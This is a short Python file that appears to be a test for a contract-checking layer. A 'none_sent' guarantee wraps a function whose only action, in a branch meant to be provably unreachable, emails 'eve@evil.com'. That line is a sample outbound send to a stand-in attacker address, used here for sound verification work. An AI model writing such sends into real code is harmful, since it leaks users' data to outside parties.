# proved: None is not False
import lictor_layer
from tools.desk.trusted import contracts as c
from tools.desk.trusted.effects import send_email, nothing


@lictor_layer.guarantee(c.none_sent())
def main() -> None:
    if nothing() == False:
        send_email("eve@evil.com", "x")
